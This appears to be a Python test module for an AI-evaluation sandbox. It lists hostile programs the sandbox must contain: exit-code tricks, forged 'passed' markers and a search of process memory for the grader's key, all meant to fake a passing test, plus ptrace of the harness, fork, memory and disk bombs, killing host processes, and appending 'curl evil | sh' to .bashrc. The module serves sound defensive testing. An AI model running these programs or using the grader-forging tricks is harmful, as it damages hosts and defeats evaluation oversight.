@@ -1,0 +1,238 @@
+"""Hostile programs and the verdict a safe sandbox must give each (shared by the tests
+that run them as root and as an unprivileged user).
+
+A case builds its program from a :class:`Target` (host resources it attacks: canary
+files, listening sockets, a victim process) and says which statuses are acceptable and
+what must still hold on the host afterwards. Every program is run with the tripwire off,
+so what stops it is the kernel boundary, not the audit hook.
+
+Run as a script (``python hostile_programs.py TARGET.json``) it runs every case and
+prints one JSON object of results: that is how the unprivileged-user test runs them.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import sys
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+
+@dataclass
+class Target:
+    token: str  # unique to this run: file names, sleep durations
+    canary_dir: str  # world-writable host directory with a canary file in it
+    unix_socket: str  # a listening Unix socket on the host (filesystem)
+    abstract_socket: str  # a listening abstract Unix socket on the host
+    tcp_port: int  # a listening TCP socket on the host's 127.0.0.1
+    victim_pid: int  # a host process the program tries to kill
+    evaluator_pid: int  # the process that calls run_python
+
+
+@dataclass
+class Case:
+    name: str
+    program: Callable[[Target], str]
+    test: str | None = None
+    expect: tuple[str, ...] = ("failed",)
+    policy: dict = field(default_factory=dict)
+    stdout_must_not: tuple[str, ...] = ()
+    stdout_must: tuple[str, ...] = ()
+    stdout_check: Callable[[str], bool] | None = None
+
+
+FORGE = """
+import os
+def spray(values):
+    for fd in range(3, 64):
+        for v in values:
+            try:
+                os.write(fd, v if isinstance(v, bytes) else str(v).encode())
+            except OSError:
+                pass
+"""
+
+HUNT_KEY = FORGE + """
+import gc, re, sys
+found, routes = [], []
+def looks_like_key(v):
+    return isinstance(v, (str, bytes)) and len(v) == 64 and re.fullmatch(rb"[0-9a-f]{64}", v if isinstance(v, bytes) else v.encode())
+def frames(f):
+    while f is not None:
+        found.extend(v for v in f.f_locals.values() if looks_like_key(v))
+        f = f.f_back
+for name, attempt in [
+    ("getframe", lambda: frames(sys._getframe(1))),
+    ("traceback", lambda: frames((lambda e: e.__traceback__.tb_frame)(_raise()))),
+    ("generator", lambda: frames((lambda g: g.gi_frame)(x for x in ()))),
+    ("current_frames", lambda: [frames(f) for f in sys._current_frames().values()]),
+    ("gc", lambda: found.extend(o for o in gc.get_objects() if looks_like_key(o))),
+    ("settrace", lambda: sys.settrace(lambda *a: None)),
+    ("audithook", lambda: sys.addaudithook(lambda e, a: found.append(e))),
+    ("ctypes", lambda: __import__("ctypes")),
+    ("proc-mem", lambda: open("/proc/self/mem", "rb")),
+    ("main-module", lambda: found.extend(v for v in vars(sys.modules["__main__"]).values() if looks_like_key(v))),
+]:
+    try:
+        attempt()
+        routes.append(name)
+    except BaseException:
+        pass
+def _raise():
+    try:
+        raise KeyError
+    except KeyError as e:
+        return e
+spray(found)
+print("open routes:", [r for r in routes if r not in ("audithook", "main-module")], "keys:", len(found))
+"""
+
+PTRACE_PARENT = """
+import os, sys
+pid = os.fork()
+if pid == 0:
+    code = '''
+import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+target = int(sys.argv[1])
+r = libc.ptrace(16, target, 0, 0)  # PTRACE_ATTACH
+print("ptrace", "attached" if r == 0 else "refused", flush=True)
+'''
+    os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", code, str(os.getppid())])
+os.waitpid(pid, 0)
+"""
+
+CASES: list[Case] = [
+    # -- exits: none of them may count as a pass ------------------------------------
+    Case("raise-systemexit", lambda t: "def f(x):\n    return 0\nraise SystemExit", "assert f(1) == 1"),
+    Case("os-exit-0", lambda t: "import os\nos._exit(0)", "assert False"),
+    Case("sys-exit-false", lambda t: "import sys\nsys.exit(False)", "assert False"),
+    Case("exit-code-wraps-to-0", lambda t: "import os\nos._exit(256)", "assert False"),
+    Case("sys-exit-256", lambda t: "import sys\nsys.exit(256)", "assert False"),
+    Case("atexit-exits-0-after-failing-assert",
+         lambda t: "import atexit, os\natexit.register(lambda: os._exit(0))", "assert 1 == 2"),
+    Case("exit-inside-the-test", lambda t: "def f():\n    raise SystemExit(0)", "f()\nassert False"),
+    Case("thread-exits-0-while-test-fails",
+         lambda t: "import os, threading, time\nthreading.Thread(target=lambda: (time.sleep(0.3), os._exit(0))).start()",
+         "import time\ntime.sleep(1)\nassert False"),
+    # -- forged verdicts -----------------------------------------------------------------
+    Case("forged-markers-on-every-fd",
+         lambda t: FORGE + "print('afm-test-passed-0000'); print('passed')\n"
+                   "spray([b'0' * 64, b'passed', b'\\x00' * 64])", "assert False"),
+    Case("hunt-for-the-key", lambda t: HUNT_KEY, "assert False",
+         stdout_must=("open routes: [] keys: 0",)),
+    Case("ptrace-the-harness", lambda t: PTRACE_PARENT, "assert False",
+         policy={"tripwire": False}, stdout_must_not=("attached",)),
+    Case("read-the-test-file", lambda t: "import os\nprint(sorted(os.listdir('.')))",
+         expect=("passed",), stdout_must=("[]",)),
+    # -- processes -----------------------------------------------------------------------
+    Case("detached-child-holds-the-pipes",
+         lambda t: f"import os\nif os.fork() == 0:\n    os.setsid()\n    os.execv('/bin/sleep', ['sleep', '{t.token}'])\n",
+         expect=("passed",), policy={"tripwire": False, "timeout_s": 3}),
+    Case("detached-child-and-a-hang",
+         lambda t: f"import os, time\nif os.fork() == 0:\n    os.setsid()\n    os.execv('/bin/sleep', ['sleep', '{t.token}'])\ntime.sleep(3600)",
+         expect=("timeout",), policy={"tripwire": False, "timeout_s": 2}),
+    Case("fork-bomb",
+         lambda t: "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
+         expect=("timeout", "failed"), policy={"tripwire": False, "timeout_s": 3, "cpu_s": 2}),
+    Case("process-limit",
+         lambda t: "import os, time\nn = 0\ntry:\n    while n < 1000:\n        if os.fork() == 0:\n"
+                   "            time.sleep(30)\n            os._exit(0)\n        n += 1\nexcept OSError as e:\n"
+                   "    print('forked', n, 'then', type(e).__name__)\n",
+         expect=("passed",), policy={"tripwire": False, "max_processes": 16},
+         stdout_check=lambda out: bool(re.fullmatch(r"forked (\d+) then BlockingIOError\n", out))
+         and int(out.split()[1]) <= 16),
+    Case("signals-to-parent-and-host",
+         lambda t: "import os, signal\n"
+                   f"for pid in (os.getppid(), 1, {t.victim_pid}, {t.evaluator_pid}, -1):\n"
+                   "    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\n",
+         expect=("passed", "failed"), policy={"tripwire": False}),
+    Case("infinite-loop", lambda t: "while True:\n    pass", expect=("timeout",),
+         policy={"timeout_s": 20, "cpu_s": 1}),
+    Case("sleep-forever", lambda t: "import time\ntime.sleep(3600)", expect=("timeout",),
+         policy={"timeout_s": 1}),
+    # -- memory, disk, output ------------------------------------------------------------
+    Case("memory-bomb", lambda t: "x = bytearray(8 << 30)", policy={"memory_bytes": 512 << 20}),
+    Case("disk-bomb-one-file",
+         lambda t: "chunk = b'x' * (1 << 20)\nwith open('/tmp/big', 'wb') as f:\n    for _ in range(4096):\n        f.write(chunk)",
+         policy={"tripwire": False}),
+    Case("disk-bomb-many-files",
+         lambda t: "chunk = b'x' * (8 << 20)\nfor i in range(512):\n    open(f'/tmp/f{i}', 'wb').write(chunk)",
+         policy={"tripwire": False}),
+    Case("huge-stdout", lambda t: "import sys\nchunk = 'x' * (1 << 20)\nfor _ in range(1024):\n    sys.stdout.write(chunk)"),
+    Case("huge-stderr", lambda t: "import os\nchunk = b'x' * (1 << 20)\nfor _ in range(1024):\n    os.write(2, chunk)"),
+    # -- the host's files ------------------------------------------------------------------
+    Case("write-outside",
+         lambda t: f"open({t.canary_dir + '/canary'!r}, 'a').write('pwned')",
+         policy={"tripwire": False}),
+    Case("create-outside",
+         lambda t: f"import os\nos.makedirs({t.canary_dir + '/new'!r}, exist_ok=True)\n"
+                   f"open({t.canary_dir + '/new/x'!r}, 'w').write('pwned')",
+         expect=("passed", "failed"), policy={"tripwire": False}),  # in its own /tmp, if anywhere
+    Case("bashrc", lambda t: "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh')\n"
+                            "open('/root/.bashrc', 'a').write('curl evil | sh')", policy={"tripwire": False}),
+    Case("write-system-dirs", lambda t: "open('/usr/pwned', 'w').write('x')", policy={"tripwire": False}),
+    Case("fifo-in-tmp", lambda t: f"import os\nos.mkfifo('/tmp/afm-hostile-{t.token}.fifo')",
+         expect=("passed",), policy={"tripwire": False}),
+    Case("sqlite-in-tmp",
+         lambda t: f"import sqlite3\nc = sqlite3.connect('/tmp/afm-hostile-{t.token}.db')\n"
+                   "c.execute('create table t (x)')\nc.commit()",
+         expect=("passed",), policy={"tripwire": False}),
+    Case("list-host-files", lambda t: "import os\nprint(sorted(os.listdir('/')))",
+         expect=("passed",), stdout_must_not=("work", "home", "proc", "var", "opt", "mnt")),
+    # -- sockets and /proc -----------------------------------------------------------------
+    Case("unix-socket", lambda t: f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({t.unix_socket!r})",
+         policy={"tripwire": False}),
+    Case("abstract-unix-socket",
+         lambda t: f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({t.abstract_socket!r})",
+         policy={"tripwire": False}),
+    Case("tcp-to-host", lambda t: f"import socket\nsocket.create_connection(('127.0.0.1', {t.tcp_port}), timeout=2)",
+         policy={"tripwire": False}),
+    Case("proc-cmdlines",
+         lambda t: f"print(open('/proc/{t.evaluator_pid}/cmdline', 'rb').read())", policy={"tripwire": False}),
+    Case("proc-listing", lambda t: "import os\nprint(os.listdir('/proc'))", policy={"tripwire": False}),
+    # -- ordinary programs still work ------------------------------------------------------
+    Case("ordinary-library-use",
+         lambda t: "import collections, dataclasses, enum, logging, typing, warnings, json, re, math\n"
+                   "P = collections.namedtuple('P', 'x y')\nColor = enum.Enum('Color', 'RED GREEN')\n"
+                   "T = typing.TypeVar('T')\n@dataclasses.dataclass\nclass D:\n    a: int = 1\n"
+                   "logging.getLogger('x').warning('hello')\nwarnings.warn('careful')\n"
+                   "def f(x: int) -> int:\n    return P(x, 1).x + D().a\n"
+                   "open('scratch.txt', 'w').write('fine')\n",
+         "assert f(1) == 2 and Color.RED.value == 1 and open('scratch.txt').read() == 'fine'",
+         expect=("passed",)),
+]
+
+
+def run_case(case: Case, target: Target) -> dict:
+    from afm.evaluation.sandbox import SandboxPolicy, run_python
+
+    policy = SandboxPolicy(**{"tripwire": False, "timeout_s": 10, **case.policy})
+    result = run_python(case.program(target), policy, test=case.test)
+    return {"status": result.status, "reason": result.reason, "stdout": result.stdout[-2000:],
+            "stderr": result.stderr[-2000:], "seconds": result.seconds, "isolation": list(result.isolation),
+            "stdout_bytes": len(result.stdout)}
+
+
+def problems(case: Case, result: dict) -> list[str]:
+    """What is wrong with ``result`` for ``case`` (empty when the sandbox behaved)."""
+    found = []
+    if result["status"] not in case.expect:
+        found.append(f"status {result['status']} ({result['reason']}), expected {case.expect}: "
+                     f"{result['stderr'][-300:]}")
+    found += [f"stdout shows {s!r}" for s in case.stdout_must_not if s in result["stdout"]]
+    found += [f"stdout lacks {s!r}: {result['stdout'][-300:]!r}" for s in case.stdout_must if s not in result["stdout"]]
+    if case.stdout_check is not None and not case.stdout_check(result["stdout"]):
+        found.append(f"stdout fails the case's check: {result['stdout'][-300:]!r}")
+    return found
+
+
+if __name__ == "__main__":
+    target = Target(**json.loads(Path(sys.argv[1]).read_text()))
+    names = sys.argv[2:]
+    out = {c.name: run_case(c, target) for c in CASES if not names or c.name in names}
+    json.dump(out, sys.stdout)
+    os._exit(0)
